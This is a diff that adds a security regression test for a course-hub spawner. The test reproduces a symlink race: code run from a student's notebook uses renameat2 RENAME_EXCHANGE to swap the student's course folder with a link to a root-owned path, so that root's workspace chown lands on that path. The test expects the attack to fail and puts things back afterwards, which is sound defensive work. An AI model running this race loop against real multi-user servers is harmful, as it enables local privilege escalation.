@@ -1,0 +1,173 @@
+"""A student tries to make root change a path of their choosing by swapping the names
+root walks through in their home for a symbolic link, between root's check and root's
+use (renameat2 RENAME_EXCHANGE swaps two names in one step, so every instant one of
+them is the real folder and the other the link).
+
+The attacker is a real student account: a process started from the student's own
+notebook in their course server (through the real hub) runs the swap loop. Root's side
+is the spawner's workspace preparation, `CoursehubLocalSpawner.make_workspace`, called
+as root on a spawner set up as the hub sets up its own (the same prefix and home root):
+the race needs thousands of tries, and a real server start per try (about a second
+each) would leave the test needing hours. The last step starts the server through the
+real hub again, to show the workspace is still made as it was."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import signal
+import stat
+import time
+from collections.abc import Callable
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+
+from coursehub.hub.spawners.local import CoursehubLocalSpawner
+from tests.helpers import hubproc
+from tests.helpers.browserless import login, start_server
+from tests.helpers.kernel import run_code
+
+pytestmark = [pytest.mark.integration, pytest.mark.root]
+
+USERS = {"alice": "alice-pass-123"}
+COURSE = "ds101"
+RACE_SECONDS = 60  # the issue's bound; the race is usually won within a second
+
+# Run from alice's notebook: starts the swap loop in the background, prints its pid.
+# `~/decoy` points at the site's course folder (the checkout, the environment root
+# later runs); with the names swapped, ~/courses/ds101 is that folder.
+START_RACER = r"""
+import os, subprocess, sys
+home = os.path.expanduser("~")
+target = {target!r}
+if not os.path.lexists(os.path.join(home, "decoy")):
+    os.symlink(target, os.path.join(home, "decoy"))
+racer = subprocess.Popen(
+    [sys.executable, "-I", "-c", {loop!r}, home, {course!r}, str({seconds})],
+    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    start_new_session=True,
+)
+print("RACER", racer.pid)
+"""
+
+LOOP = r"""
+import ctypes, os, sys, time
+home, course, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
+libc = ctypes.CDLL(None, use_errno=True)
+renameat2 = libc.renameat2
+renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
+os.chdir(home)
+end = time.monotonic() + seconds
+while time.monotonic() < end:
+    for _ in range(200):
+        renameat2(AT_FDCWD, b"courses", AT_FDCWD, b"decoy", RENAME_EXCHANGE)
+    # Take the workspace away so root makes it again. Through the link this fails:
+    # the course folder is root's.
+    for path in ("courses/" + course, "decoy/" + course):
+        try:
+            os.rmdir(path)
+        except OSError:
+            try:  # not empty: the running server's files
+                os.rename(path, path + ".kept-%d" % time.monotonic_ns())
+            except OSError:
+                pass
+"""
+
+
+@pytest.fixture(scope="module")
+def hub(
+    start_hub: Callable[..., hubproc.RunningHub], make_course_repo: Callable[..., Path]
+) -> hubproc.RunningHub:
+    repo = make_course_repo({"intro.ipynb": '{"cells": [], "metadata": {}}\n'})
+    return start_hub(
+        "root-paths",
+        outside_tmp=True,
+        users=USERS,
+        courses={COURSE: hubproc.Course(repo, students=["alice"])},
+    )
+
+
+def _owner_and_mode(path: Path) -> tuple[int, int, int]:
+    st = os.lstat(path)
+    return st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)
+
+
+def _put_back(home: Path, before: tuple[int, int, int], victim: Path) -> None:
+    """Undo what the attack did, so the site can be removed and reused."""
+    courses, decoy = home / "courses", home / "decoy"
+    if courses.is_symlink() and decoy.is_dir() and not decoy.is_symlink():
+        os.rename(decoy, home / "courses.real")
+        os.unlink(courses)
+        os.rename(home / "courses.real", courses)
+    with contextlib.suppress(FileNotFoundError):
+        os.unlink(decoy)
+    uid, gid, mode = before
+    os.chown(victim, uid, gid, follow_symlinks=False)
+    os.chmod(victim, mode)
+
+
+@pytest.mark.xfail(strict=True, reason="root creates and chowns ~/courses/<course> by path")
+def test_a_student_cannot_redirect_roots_chown_of_their_workspace(
+    hub: hubproc.RunningHub,
+) -> None:
+    client = login(hub.url, "alice", USERS["alice"])
+    events = start_server(client, "alice", server=COURSE)
+    assert events and events[-1].get("ready"), f"{events}\n{hub.log_tail()}"
+    victim = hub.data_dir / "courses" / COURSE
+    before = _owner_and_mode(victim)
+    assert before[0] == 0, before
+
+    spawner = CoursehubLocalSpawner(
+        user=SimpleNamespace(name="alice"),
+        user_prefix=hub.prefix,
+        home_root=str(hub.home_root),
+    )
+    home = Path(spawner.home_dir)
+    workspace = home / "courses" / COURSE
+
+    code = START_RACER.format(
+        target=str(victim.parent), loop=LOOP, course=COURSE, seconds=RACE_SECONDS + 10
+    )
+    out = run_code(f"{hub.url}/user/alice/{COURSE}/", hub.user_token("alice"), code)
+    racer = int(out["stdout"].split("RACER")[1].split()[0])
+    tries = refused = 0
+    after = before
+    try:
+        deadline = time.monotonic() + RACE_SECONDS
+        while time.monotonic() < deadline:
+            tries += 1
+            try:
+                spawner.make_workspace(workspace)  # as the hub does before each start
+            except Exception:  # noqa: BLE001 - a refused start is what the hub would show
+                refused += 1
+            after = _owner_and_mode(victim)
+            if after != before:
+                break
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.kill(racer, signal.SIGKILL)
+        time.sleep(0.2)
+        _put_back(home, before, victim)
+
+    assert after == before, f"root changed {victim} to {after} after {tries} tries"
+    assert tries > 1000, (tries, refused)  # the race was really run
+
+    # Without the attacker, a start through the hub still makes a private workspace.
+    auth = {"Authorization": f"token {hub.user_token('alice')}"}
+    stop = client.delete(f"/hub/api/users/alice/servers/{COURSE}", headers=auth)
+    assert stop.status_code in (202, 204), stop.text
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        if COURSE not in client.get("/hub/api/users/alice", headers=auth).json()["servers"]:
+            break
+        time.sleep(0.5)
+    with contextlib.suppress(OSError):
+        os.rmdir(workspace)  # empty unless the server wrote there
+    events = start_server(client, "alice", server=COURSE)
+    assert events and events[-1].get("ready"), f"{events}\n{hub.log_tail()}"
+    entry = os.lstat(workspace)
+    assert stat.S_ISDIR(entry.st_mode) and stat.S_IMODE(entry.st_mode) == 0o700
+    assert (entry.st_uid, entry.st_gid) == (os.lstat(home).st_uid, os.lstat(home).st_gid)
